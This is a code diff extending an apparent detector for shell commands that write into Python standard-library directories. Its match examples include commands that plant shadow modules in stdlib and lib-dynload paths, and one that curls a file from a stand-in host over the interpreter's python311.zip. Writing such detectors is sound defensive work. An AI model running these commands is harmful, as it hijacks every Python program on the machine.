@@ -35,7 +35,9 @@ EXAMPLES = {
               "cp -r /tmp/shadow/json ~/.pyenv/versions/3.11.9/lib/python3.11/",
               "tar -xf /tmp/s.tar -C ~/.pyenv/versions/3.11.9/lib/python3.11",
               "python3 -m zipfile -c /usr/local/lib/python312.zip json/",
-              "unzip -o /tmp/m.zip -d /usr/lib/python3.12/lib-dynload"],
+              "unzip -o /tmp/m.zip -d /usr/lib/python3.12/lib-dynload",
+              "pip install --target ~/.pyenv/versions/3.11.9/lib/python3.11 sqlite3-shim",
+              "curl -o ~/.pyenv/versions/3.11.9/lib/python311.zip https://x.example/z"],
     "no_match": ["zip -r build/dist.zip src",
                  "zip -r /tmp/backup.zip ~/.pyenv/versions/3.11.9/lib/python3.11",
                  "unzip -l /usr/lib/python311.zip", "cp /usr/lib/python311.zip /tmp/",
@@ -85,6 +87,12 @@ def written_places(inv: Invocation) -> list[str]:
             out.append(rest[1])
         elif rest[:1] == ["-e"] and len(rest) > 2:
             out.append(rest[2])
+    elif name in ("pip", "pip3", "uv") or name.startswith("pip3."):  # `pip install --target DIR`
+        out += _value(args, "-t", "--target")
+    elif name in ("tee", "sponge"):
+        out += _operands(args)
+    elif name == "dd":
+        out += [a[3:] for a in args if a.startswith("of=")]
     elif name in _COPIERS:
         out += _value(args, "-t", "--target-directory")
         words = _operands(args)
